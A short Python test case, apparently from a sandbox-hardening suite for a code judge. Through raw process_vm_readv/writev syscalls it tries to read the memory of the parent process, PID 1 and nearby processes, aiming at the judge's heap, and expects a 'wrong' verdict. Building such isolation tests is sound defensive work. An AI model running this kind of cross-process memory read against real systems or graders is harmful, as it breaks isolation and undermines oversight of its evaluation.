"""Read: the memory of the parent, the first process and all near by, by process_vm_readv.

Goal: the judge's heap.
Promise: S3, S12
Verdict: wrong
Needs: x86_64
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def total(n):
    room = ctypes.create_string_buffer(64)
    local = Vector(ctypes.addressof(room), 64)
    remote = Vector(id(room), 64)
    others = [pid for pid in {0, 1, 2, os.getppid(), *range(2, 200)} if pid != os.getpid()]
    for pid in others:
        for number in (310, 311):
            count = libc.syscall(number, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            if count > 0:
                print(pid, room.raw)
                return sum(i * i for i in range(n + 1))
    return 0
